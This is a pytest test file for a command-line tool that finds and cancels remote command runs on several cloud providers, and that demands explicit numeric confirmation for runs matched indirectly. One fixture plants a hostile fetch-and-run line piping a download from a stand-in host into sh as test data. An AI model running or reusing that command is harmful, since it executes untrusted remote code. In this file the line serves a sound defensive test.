"""Runs found by what they are, and what a cancel of them has to be confirmed with."""

import pytest
from outside import Outside

NEEDLE = "curl http://bad.example | sh"


@pytest.fixture
def patched(outside: Outside) -> dict[str, str]:
    """Three runs that one name finds: by their name, by their comment, by what they are."""
    return {
        "name": outside.add("tencent", name="bad-patch", targets={"running": 1}),
        "comment": outside.add("alibaba", name="x", description="bad-patch", targets={"pending": 1}),
        "command": outside.add("aws", kind="command", name="bad-patch", targets={"running": 1}),
        "script": outside.add("tencent", name="y", script=f"#!/bin/sh\n{NEEDLE}\n", targets={"running": 1}),
    }


def matched(outside: Outside, *argv: str) -> dict[str, str]:
    return {run["ref"]: run["matched_by"] for run in outside.json("list", *argv)["runs"]}


def test_a_name_is_compared_with_comment_and_document(outside: Outside, patched: dict[str, str]) -> None:
    for flag in ("--name", "--name-glob"):
        assert matched(outside, flag, "bad-patch") == {
            patched["name"]: "name",
            patched["comment"]: "comment",
            patched["command"]: "comment",
        }
    assert set(matched(outside).values()) == {None}


def test_a_script_is_found_on_every_cloud_that_lists_it(outside: Outside, patched: dict[str, str]) -> None:
    done = outside.run("list", "--script", NEEDLE, "-o", "json")

    assert [run["ref"] for run in done.document["runs"]] == [patched["script"]]
    assert done.document["runs"][0]["matched_by"] == "script"
    assert "curl" not in done.out + done.err
    assert "aws maintenance-window not searched: AWS does not list the script of a run" in done.err
    assert "aws automation not searched" in done.err
    assert (done.code, done.document["complete"]) == (0, True)


def test_a_document_is_found_alone(outside: Outside) -> None:
    runs = outside.json("list", "--document", "AWS-RunPatchBaseline")["runs"]

    assert {(run["document"], run["matched_by"]) for run in runs} == {("AWS-RunPatchBaseline", "document")}


def test_who_started_a_run_is_searched_where_the_cloud_says_it(outside: Outside) -> None:
    done = outside.run("list", "--started-by", "assumed-role/ops", "-o", "json")

    assert {run["kind"] for run in done.document["runs"]} == {"automation"}
    assert {run["matched_by"] for run in done.document["runs"]} == {None}
    for kind in ("aws command", "aws maintenance-window", "alibaba invocation", "tencent invocation"):
        assert f"{kind} not searched" in done.err


@pytest.mark.parametrize(
    "argv",
    [
        ("--started-by", "ops", "-p", "tencent"),
        ("--script", "x", "--kind", "maintenance-window"),
        ("--document", "x", "--kind", "maintenance-window"),
        ("--script", "x", "--kind", "automation"),
    ],
)
@pytest.mark.parametrize("verb", ["list", "cancel"])
def test_what_no_listing_could_ever_find_is_wrong_usage(outside: Outside, verb: str, argv: tuple[str, ...]) -> None:
    done = outside.run(verb, *argv)

    assert (done.code, done.out) == (2, "")
    assert "does not list" in done.err
    assert outside.actions() == []


@pytest.mark.parametrize("flag", ["--document", "--script", "--started-by"])
@pytest.mark.parametrize("value", ["", "-x", "a\x1bb"])
def test_a_filter_is_a_value_that_shows(outside: Outside, flag: str, value: str) -> None:
    assert outside.run("list", f"{flag}={value}").code == 2


def test_a_run_of_that_name_still_takes_yes(outside: Outside, patched: dict[str, str]) -> None:
    done = outside.run("cancel", "--name", "bad-patch", "-p", "tencent", "--yes")

    assert (done.code, [each["action"] for each in outside.writes()]) == (0, ["CancelInvocation"])


@pytest.mark.parametrize("way", ["filter", "plan", "list", "tsv", "request"])
def test_yes_alone_answers_nothing_that_a_comment_found(outside: Outside, patched: dict[str, str], way: str) -> None:
    filters = "--name bad-patch -p aws"
    ways = {
        "filter": f"runcancel cancel {filters} --yes",
        "plan": f"runcancel cancel {filters} -n -o json > plan.json; runcancel cancel --plan plan.json --yes",
        "list": f"runcancel list {filters} -o jsonl | runcancel cancel -f - --yes",
        "tsv": f"runcancel list {filters} | runcancel cancel -f - --yes",
        "request": """echo '{"name": "bad-patch"}' > r.json; runcancel cancel -p aws --cli-input-json r.json --yes""",
    }
    refused = outside.shell(f"cd; {ways[way]}; exit $?")

    assert (refused.code, outside.writes()) == (6, [])
    assert "1 run matches (found by comment)" in refused.err
    assert "To proceed: add --confirm 1" in refused.err
    done = outside.shell(f"cd; {ways[way].replace('--yes', '--confirm 1')}; exit $?")
    assert (done.code, [each["action"] for each in outside.writes()]) == (0, ["CancelCommand"])


@pytest.mark.parametrize(
    ("argv", "why"),
    [
        (("--script", NEEDLE, "-p", "tencent"), "found by script"),
        (("--document", "AWS-RunPatchBaseline", "-p", "aws"), "found by document"),
    ],
)
def test_documents_and_scripts_want_the_number(
    outside: Outside, patched: dict[str, str], argv: tuple[str, ...], why: str
) -> None:
    refused = outside.run("cancel", *argv, "--yes")

    assert (refused.code, outside.writes()) == (6, [])
    assert why in refused.err
    assert outside.run("cancel", *argv, "--confirm", "1", "--no-wait").code == 0


def test_one_of_several_that_a_comment_found_is_enough(outside: Outside, patched: dict[str, str]) -> None:
    refused = outside.run("cancel", "--name", "bad-patch", "--yes")

    assert (refused.code, outside.writes()) == (6, [])
    assert "3 runs match (in 3 accounts, of which 2 found by comment)" in refused.err
    assert "--confirm 3" in refused.err


def test_the_name_of_a_protected_context_is_no_answer(outside: Outside, patched: dict[str, str]) -> None:
    outside.run("contexts", "add", "prod", "-p", "aws", "-r", "us-east-2", "--protected")

    refused = outside.run("cancel", "-c", "prod", "--name", "bad-patch", "--confirm", "prod")

    assert (refused.code, outside.writes()) == (6, [])
    assert "in protected context prod, found by comment" in refused.err
    assert outside.run("cancel", "-c", "prod", "--name", "bad-patch", "--confirm", "1", "--no-wait").code == 0


def test_no_script_is_kept_or_printed(outside: Outside, patched: dict[str, str]) -> None:
    done = outside.run("cancel", "--script", NEEDLE, "-p", "tencent", "--confirm", "1", "-o", "json")

    assert done.code == 0
    assert [words for one in done.document["operations"] for words in one["argv"] if "bad.example" in words] == [NEEDLE]
    assert "bad.example" not in str({**done.document, "operations": []}) + done.err
    kept = [path.read_bytes() for path in outside.home.rglob("*") if path.is_file() and "journal" in path.name]
    assert kept
    assert all(b"curl http" not in data.replace(NEEDLE.encode(), b"", 1) for data in kept)


def test_a_person_types_the_number(outside: Outside, patched: dict[str, str]) -> None:
    shown = outside.on_terminal("cancel", "--name", "bad-patch", "-p", "aws", "--yes", "--no-wait", answer="y\n1\n")

    assert shown.code == 0, shown.final
    assert b"found by comment" in shown.raw
    assert b"ype 1 to confirm" in shown.raw
    assert [each["action"] for each in outside.writes()] == ["CancelCommand"]


def test_a_list_that_names_no_fact_is_refused(outside: Outside, patched: dict[str, str]) -> None:
    lines = f"""{{"type":"run","ref":"{patched["name"]}","matched_by":"colour"}}\n{{"type":"end","complete":true}}\n"""

    done = outside.run("cancel", "-f", "-", "--yes", stdin=lines)

    assert (done.code, outside.writes()) == (2, [])
    assert "matched_by" in done.err
